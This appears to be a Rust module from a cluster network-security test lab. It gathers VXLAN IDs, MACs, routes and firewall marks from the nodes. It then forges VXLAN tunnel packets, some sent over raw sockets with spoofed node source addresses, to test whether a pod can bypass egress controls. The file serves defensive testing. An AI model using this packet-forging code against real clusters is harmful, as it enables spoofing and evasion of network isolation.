//! What an attacker in a pod can send who knows everything: tunnel packets of his own, with a plain UDP socket or with a raw one and a
//! node's address as their source.
//!
//! Deliberately absent: judgement. Whether something came through is seen where it would arrive.

use std::collections::{BTreeMap, BTreeSet};
use std::net::{IpAddr, SocketAddr, SocketAddrV4, SocketAddrV6, UdpSocket};
use std::os::fd::AsRawFd;

use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, SockaddrIn6, sendto, socket,
};
use serde_json::Value;

use super::Standing;
use super::dimensions::Family;
use super::layout::{self, MEMBER, Node, Pod};
use crate::lab::LabError;

/// The port of the tunnel.
const TUNNEL: u16 = 4790;

/// Everything that distinguishes a good tunnel packet from another, read from the kernels of all nodes.
#[derive(Debug, Default, Clone)]
pub(crate) struct Secrets {
    /// VXLAN identifiers.
    pub(crate) ids: BTreeSet<u32>,
    /// Inner destination MACs.
    pub(crate) macs: BTreeSet<[u8; 6]>,
    /// Addresses that routes lead into the tunnel for, such as those that stand for nodes inside of it, with the node that they lead to.
    pub(crate) inside: BTreeMap<IpAddr, Option<IpAddr>>,
    /// Marks of exits on the source.
    pub(crate) marks: BTreeSet<u32>,
}

impl Secrets {
    /// Reads them.
    pub(crate) fn read(standing: &Standing) -> Result<Self, LabError> {
        let mut secrets = Self::default();
        for node in Node::ALL {
            for words in [&["neighbour", "show", "dev", "egret0"][..], &["link", "show", "dev", "egret0"]] {
                // A node that has nothing to do has no tunnel.
                let text = standing.ip(node, words).unwrap_or_default();
                let words: Vec<&str> = text.split_whitespace().collect();
                secrets.macs.extend(words.iter().filter_map(|word| mac(word)));
            }
            for family in ["-4", "-6"] {
                let text = standing.ip(node, &[family, "route", "show", "table", "all"])?;
                for line in text.lines().filter(|line| line.contains("egret0")) {
                    let words: Vec<&str> = line.split_whitespace().collect();
                    let after = |word: &str| {
                        words.iter().position(|one| *one == word).and_then(|at| words.get(at + 1).copied())
                    };
                    secrets.ids.extend(after("id").and_then(|id| id.parse::<u32>().ok()));
                    let first = words.first().copied().unwrap_or_default();
                    if let Some(address) = first.split('/').next().and_then(|address| address.parse::<IpAddr>().ok()) {
                        secrets.inside.insert(address, after("dst").and_then(|node| node.parse().ok()));
                    }
                }
            }
        }
        for family in ["-4", "-6"] {
            let rules = standing.ip(Node::N1, &["-j", family, "rule"])?;
            let rules: Value =
                serde_json::from_str(&rules).map_err(|_| LabError::Nonsense { what: "what `ip -j rule` says" })?;
            for rule in rules.as_array().into_iter().flatten().filter(|rule| rule["protocol"] == "180") {
                let number = |key: &str| u32::from_str_radix(rule[key].as_str()?.strip_prefix("0x")?, 16).ok();
                secrets.marks.extend(number("fwmark"));
            }
        }
        Ok(secrets)
    }
}

fn mac(word: &str) -> Option<[u8; 6]> {
    let parts: Vec<u8> = word.split(':').map(|part| u8::from_str_radix(part, 16)).collect::<Result<_, _>>().ok()?;
    let parts: [u8; 6] = parts.try_into().ok()?;
    // Loopback's and broadcast.
    (parts != [0; 6] && parts != [0xff; 6]).then_some(parts)
}

/// The Internet checksum of these bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 =
        bytes.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(pair.get(1).copied().unwrap_or_default())).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or_default()
}

/// A datagram with its IP header. `None` where the addresses are of two families.
pub(crate) fn packet(from: SocketAddr, to: SocketAddr, payload: &[u8]) -> Option<Vec<u8>> {
    let length = u16::try_from(8 + payload.len()).ok()?;
    let mut udp = [from.port().to_be_bytes(), to.port().to_be_bytes(), length.to_be_bytes(), [0, 0]].concat();
    udp.extend_from_slice(payload);
    match (from.ip(), to.ip()) {
        (IpAddr::V4(from), IpAddr::V4(to)) => {
            let total = (20 + length).to_be_bytes();
            let mut head = vec![0x45, 0, total[0], total[1], 0, 1, 0, 0, 64, 17, 0, 0];
            head.extend(from.octets().into_iter().chain(to.octets()));
            let sum = checksum(&head).to_be_bytes();
            head[10..12].copy_from_slice(&sum);
            Some([head, udp].concat())
        }
        (IpAddr::V6(from), IpAddr::V6(to)) => {
            let addresses = [from.octets(), to.octets()].concat();
            let pseudo = [&addresses[..], &[0, 0], &length.to_be_bytes(), &[0, 0, 0, 17], &udp].concat();
            let sum = checksum(&pseudo);
            // In UDP over IPv6 a sum of 0 is written as its other form (RFC 8200, 8.1).
            udp[6..8].copy_from_slice(&(if sum == 0 { 0xffff } else { sum }).to_be_bytes());
            let length = length.to_be_bytes();
            Some([vec![0x60, 0, 0, 0, length[0], length[1], 17, 64], addresses, udp].concat())
        }
        _ => None,
    }
}

/// What VXLAN carries: its header, an Ethernet header, the packet.
fn frame(id: u32, mac: [u8; 6], inner: &[u8]) -> Vec<u8> {
    let id = (id << 8).to_be_bytes();
    let kind: [u8; 2] = if inner[0] >> 4 == 4 { [0x08, 0x00] } else { [0x86, 0xdd] };
    [&[0x08, 0, 0, 0], &id[..], &mac, &[2, 0, 0xac, 0x12, 0, 2], &kind, inner].concat()
}

/// How the outer packet is sent.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Outer {
    /// By a UDP socket: it has the pod's address, and whatever the CNI makes of it.
    Plain,
    /// By a raw socket, with this address as its source.
    Spoofed(IpAddr),
}

/// Sends tunnel packets from the calling thread's namespace to all these addresses, each inner packet with every identifier and MAC there is.
/// How many the kernel took.
pub(crate) fn send(secrets: &Secrets, outer: Outer, targets: &[IpAddr], inner: &[Vec<u8>]) -> usize {
    let frames: Vec<Vec<u8>> = secrets
        .ids
        .iter()
        .flat_map(|id| secrets.macs.iter().map(move |mac| (*id, *mac)))
        .flat_map(|(id, mac)| inner.iter().map(move |inner| frame(id, mac, inner)))
        .collect();
    let mut sent = 0;
    for target in targets {
        let to = SocketAddr::new(*target, TUNNEL);
        match outer {
            Outer::Plain => {
                let any: IpAddr = if target.is_ipv4() { [0, 0, 0, 0].into() } else { [0u16; 8].into() };
                let Ok(socket) = UdpSocket::bind((any, 0)) else { continue };
                // A refusal (the firewall's ICMP) is reported once and does not end the attack.
                sent += frames.iter().filter(|frame| socket.send_to(frame, to).is_ok()).count();
            }
            Outer::Spoofed(source) => sent += raw(&frames, SocketAddr::new(source, 40000), to),
        }
    }
    sent
}

fn raw(frames: &[Vec<u8>], from: SocketAddr, to: SocketAddr) -> usize {
    let family = if to.is_ipv4() { AddressFamily::Inet } else { AddressFamily::Inet6 };
    let Ok(open) = socket(family, SockType::Raw, SockFlag::empty(), SockProtocol::Raw) else { return 0 };
    let packets = frames.iter().filter_map(|frame| packet(from, to, frame));
    let sent = packets.filter(|packet| {
        // The kernel takes the way by this address; for a raw socket the port means nothing, and in IPv6 has to be 0.
        match to.ip() {
            IpAddr::V4(ip) => {
                sendto(open.as_raw_fd(), packet, &SockaddrIn::from(SocketAddrV4::new(ip, 0)), MsgFlags::empty()).is_ok()
            }
            IpAddr::V6(ip) => {
                let to = SockaddrIn6::from(SocketAddrV6::new(ip, 0, 0, 0));
                sendto(open.as_raw_fd(), packet, &to, MsgFlags::empty()).is_ok()
            }
        }
    });
    sent.count()
}

impl Standing {
    /// All that an attacker may put in as the inner source: what stands for nodes inside, the nodes themselves, a member, and himself, if he is in a
    /// pod.
    pub(crate) fn inner_sources(&self, secrets: &Secrets, attacker: Option<Pod>, family: Family) -> BTreeSet<IpAddr> {
        let four = family == Family::V4;
        let nodes = Node::ALL.map(|node| self.world.internal(node, family));
        let pods = [Some(MEMBER), attacker].into_iter().flatten().map(|pod| self.world.pod(pod, family));
        let known = secrets.inside.keys().copied().filter(|address| address.is_ipv4() == four);
        known.chain(nodes).chain(pods).collect()
    }

    /// All addresses of a node to which a tunnel packet could be sent.
    pub(crate) fn targets(&self, node: Node) -> Vec<IpAddr> {
        self.world.families().into_iter().flat_map(|family| self.world.all_of_node(node, family)).collect()
    }
}

/// Where an attacker would like to get to with the egress address, with a watched port.
pub(crate) fn goals(family: Family, port: u16) -> [SocketAddr; 2] {
    [layout::named(family), layout::unnamed(family)].map(|address| SocketAddr::new(address, port))
}
